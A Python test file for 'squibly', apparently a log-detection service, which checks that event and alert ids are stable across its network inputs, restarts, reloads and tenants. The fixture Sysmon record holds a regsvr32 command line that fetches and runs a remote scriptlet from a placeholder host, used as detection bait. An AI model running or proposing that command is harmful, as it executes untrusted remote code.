"""The ids of events and alerts: the same over every way in, after a restart and in `squibly scan`; and those that
docs/formats.md says, computed here by another program."""
import json
import os
import socket
import struct
import tempfile
import urllib.request

from harness import DEADLINE, Case, eventually, main, scan, squibly

RECORD = {"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
          "Hostname": "WS-7.corp.Example", "RecordNumber": 4711, "EventTime": "2020-07-22 03:27:52",
          "SourceModuleType": "im_msvistalog", "Image": "C:\\Windows\\System32\\regsvr32.exe",
          "CommandLine": "regsvr32 /s /n /u /i:http://files.example.net/ä.sct scrobj.dll"}
MASK = (1 << 64) - 1


def siphash(key, data):
    """SipHash-2-4 with 128 bits, after the paper; as 32 hexadecimal digits, first half first."""
    k0, k1 = struct.unpack("<2Q", key)
    v = [k0 ^ 0x736f6d6570736575, k1 ^ 0x646f72616e646f6d ^ 0xee, k0 ^ 0x6c7967656e657261, k1 ^ 0x7465646279746573]

    def turn(x, n):
        return (x << n | x >> (64 - n)) & MASK

    def rounds(n):
        for _ in range(n):
            v[0] = (v[0] + v[1]) & MASK
            v[1] = turn(v[1], 13) ^ v[0]
            v[0] = turn(v[0], 32)
            v[2] = (v[2] + v[3]) & MASK
            v[3] = turn(v[3], 16) ^ v[2]
            v[0] = (v[0] + v[3]) & MASK
            v[3] = turn(v[3], 21) ^ v[0]
            v[2] = (v[2] + v[1]) & MASK
            v[1] = turn(v[1], 17) ^ v[2]
            v[2] = turn(v[2], 32)

    whole = len(data) // 8 * 8
    last = data[whole:].ljust(7, b"\0") + bytes([len(data) & 255])
    for (m,) in struct.iter_unpack("<Q", data[:whole] + last):
        v[3] ^= m
        rounds(2)
        v[0] ^= m
    v[2] ^= 0xee
    rounds(4)
    first = v[0] ^ v[1] ^ v[2] ^ v[3]
    v[1] ^= 0xdd
    rounds(4)
    return f"{first:016x}{v[0] ^ v[1] ^ v[2] ^ v[3]:016x}"


def named(*parts):
    data = b""
    for part in parts:
        if isinstance(part, str):
            part = part.encode()
        data += struct.pack("<Q", part) if isinstance(part, int) else struct.pack("<Q", len(part)) + part
    return siphash(b"squiblydevent-id", data)


def halves(text):
    return int(text[:16], 16), int(text[16:], 16)


def event_id(r, *tenant):
    return named(1, r["Hostname"].lower(), r["Channel"], str(r["RecordNumber"]), r["SourceName"], r["EventTime"],
                 str(r["EventID"]), r["CommandLine"], *tenant)


def content_id(host, text):
    return named(2, host, text)


def alert_id(event, alert):
    line = alert["process"]["command_line"]
    others = [m["value"] for m in alert["squibly"]["matched"] if m["value"] != line]
    return named(3, *halves(event), alert["rule"]["id"], *others)


class Ids(Case):
    def run_daemon(self, folder, inputs, more=""):
        path = os.path.join(folder, "alerts")
        return path, self.daemon(f"inputs:\n{inputs}outputs:\n  - type: file\n    path: {path}\n{more}", inputs=False)

    def alerts_of(self, path, n):
        def look():
            with open(path, "rb") as f:
                lines = f.read().split(b"\n")[:-1]
            return len(lines) >= n and [json.loads(line) for line in lines]
        return eventually(f"{n} alerts", lambda: os.path.exists(path) and look())

    def ids(self, alerts):
        for a in alerts:
            self.assertRegex(a["event"]["id"], "^[0-9a-f]{32}$")
            self.assertRegex(a["squibly"]["event_id"], "^[0-9a-f]{32}$")
        return {a["rule"]["id"]: (a["event"]["id"], a["squibly"]["event_id"]) for a in alerts}

    def scanned(self, raw):
        with tempfile.NamedTemporaryFile(suffix=".ndjson") as f:
            f.write(raw + b"\n")
            f.flush()
            alerts, _ = scan(f.name)
        self.assertTrue(alerts)
        return alerts

    def test_every_way_in_and_the_document_give_the_same(self):
        raw = json.dumps(RECORD, ensure_ascii=False).encode()
        alerts = self.scanned(raw)
        want = self.ids(alerts)
        self.assertEqual(len(set(want.values())), len(want))
        for a in alerts:
            self.assertEqual(a["squibly"]["event_id"], event_id(RECORD))
            self.assertEqual(a["event"]["id"], alert_id(event_id(RECORD), a))
        with tempfile.TemporaryDirectory(prefix="squibly-ids-") as folder:
            for way in (self.by_tcp, self.by_syslog, self.by_octets, self.by_udp, self.by_http, self.by_collector,
                        self.by_beats):
                with self.subTest(way=way.__name__):
                    path, d = self.run_daemon(folder, "".join(
                        f"  - type: {t}\n    listen: 127.0.0.1:0\n" for t in ("tcp", "udp", "http", "beats")))
                    way(d, raw)
                    got = self.alerts_of(path, len(alerts))
                    self.assertEqual(self.ids(got), want)
                    self.assert_stops(d)
                    os.remove(path)

    def test_whoever_sends_and_by_whichever_way_the_tenant_is_that_of_the_input(self):
        raw = json.dumps(RECORD, ensure_ascii=False).encode()
        kinds = ("tcp", "udp", "http", "beats")
        ways = (self.by_tcp, self.by_syslog, self.by_octets, self.by_udp, self.by_http, self.by_collector, self.by_beats)
        folder = self.scratch()
        path, d = self.run_daemon(folder, "".join(
            f"  - {{type: {kind}, listen: '127.0.0.1:0', tenant: north}}\n" for kind in kinds), "loops: 2\n")
        each = len(self.scanned(raw))
        for n, way in enumerate(ways, 1):
            way(d, raw)
            alerts = self.alerts_of(path, n * each)
        self.assertEqual(len(alerts), len(ways) * each)
        for a in alerts:
            self.assertEqual(a["squibly"]["tenant"], "north")
            self.assertEqual(a["organization"], {"name": "north"})
            self.assertEqual(a["squibly"]["event_id"], event_id(RECORD, "north"))
            self.assertEqual(a["event"]["id"], alert_id(event_id(RECORD, "north"), a))
        self.assert_stops(d)

    def test_one_event_of_two_tenants_is_two_events(self):
        """Each of them sends it, and broken text, before and after a reload; so does somebody who is nobody's."""
        raw = json.dumps(RECORD, ensure_ascii=False).encode()
        folder = self.scratch()
        passed, dead, socket_path = (os.path.join(folder, name) for name in ("passed", "dead", "control.sock"))
        path, d = self.run_daemon(
            folder, "  - {type: tcp, listen: '127.0.0.1:0', tenant: north}\n"
            "  - {type: http, listen: '127.0.0.1:0', tenant: south}\n  - {type: beats, listen: '127.0.0.1:0'}\n",
            f"  - {{type: file, path: {passed}, forward: all, verdict: all}}\ndead_letter:\n  path: {dead}\n"
            f"fold: {{window: 1h}}\ndeduplicate: {{window: 100}}\ncontrol:\n  path: {socket_path}\n")
        ways = {"north": self.by_tcp, "south": self.by_http, None: self.by_beats}
        for turn in range(2):
            for way in ways.values():
                way(d, raw)
                way(d, b"no JSON")
            d.wait_received(6 * (turn + 1))
            if not turn:
                d.wait_said(r"reloaded: \d+ rule", d.hup())
        inputs = json.loads(squibly("status", "-j", "-s", socket_path)[0])["inputs"]
        self.assertEqual([i.get("tenant") for i in inputs], ["north", "south", None])
        text = squibly("status", "-s", socket_path)[0].decode()
        self.assertRegex(text, r"(?m)^input tcp \S+, tenant north$")
        self.assertRegex(text, r"(?m)^input beats [^,\n]+$")
        c = self.assert_stops(d, 12)
        self.assertEqual(c["dropped"], 3, c)  # what each has sent again
        self.check_tenants(path, dead, passed)

    def check_tenants(self, path, dead, passed):
        alerts = self.alerts_of(path, 1)
        names = ("north", "south", None)
        per = {t: [a for a in alerts if a["squibly"].get("tenant") == t] for t in names}
        self.assertEqual(len({len(of) for of in per.values()}), 1, per)
        self.assertEqual(sum(len(of) for of in per.values()), len(alerts))
        for tenant, of in per.items():
            told = [tenant] if tenant else []
            for a in of:
                self.assertEqual(a.get("organization"), {"name": tenant} if tenant else None)
                self.assertEqual(a["squibly"]["event_id"], event_id(RECORD, *told))
                self.assertEqual(a["event"]["id"], alert_id(event_id(RECORD, *told), a))
        self.assertEqual(len({a["event"]["id"] for a in alerts}), len(alerts))
        for n, name in ((6, dead), (9, passed)):
            with open(name, "rb") as f:
                lines = [json.loads(line) for line in f]
            said = [line.get("squibly", line).get("tenant") for line in lines]
            self.assertEqual({t: said.count(t) for t in said}, dict.fromkeys(names, n // 3), name)

    def by_tcp(self, d, raw):
        d.send(raw + b"\n")

    def by_syslog(self, d, raw):
        d.send(b"<13>1 2021-01-01T00:00:00Z relay.example app - - - " + raw + b"\n")

    def by_octets(self, d, raw):
        record = b"<13>Jan  1 00:00:00 relay nxlog: " + raw
        d.send(str(len(record)).encode() + b" " + record)

    def by_udp(self, d, raw):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(raw, ("127.0.0.1", d.port("udp")))

    def by_http(self, d, raw, path="/"):
        request = urllib.request.Request(f"http://127.0.0.1:{d.port('http')}{path}", data=raw, method="POST")
        with urllib.request.urlopen(request, timeout=DEADLINE) as answer:
            self.assertEqual(answer.status, 200)

    def by_collector(self, d, raw):
        self.by_http(d, b'{"time":1600000000,"host":"x","event":' + raw + b"}", "/services/collector/event")

    def by_beats(self, d, raw):
        with socket.create_connection(("127.0.0.1", d.port("beats")), timeout=DEADLINE) as s:
            s.sendall(b"2W" + struct.pack(">I", 1) + b"2J" + struct.pack(">II", 1, len(raw)) + raw)
            eventually("an answer", lambda: s.recv(6))

    def test_an_event_without_a_record_id_is_known_by_its_bytes(self):
        record = {k: v for k, v in RECORD.items() if k != "RecordNumber"}
        raw = json.dumps(record, ensure_ascii=False)
        other = json.dumps(dict(record, EventTime="2020-07-22 03:27:53"), ensure_ascii=False)
        with tempfile.NamedTemporaryFile(suffix=".ndjson") as f:
            f.write((raw + "\n<13>Jan  1 00:00:00 relay app: " + raw + "\n" + other + "\n").encode())
            f.flush()
            alerts, _ = scan(f.name)
        ids = [a["squibly"]["event_id"] for a in alerts]
        host = record["Hostname"].lower()
        self.assertEqual(set(ids), {content_id(host, raw), content_id(host, other)})
        self.assertEqual(ids.count(content_id(host, raw)), 2 * ids.count(content_id(host, other)))


if __name__ == "__main__":
    main()
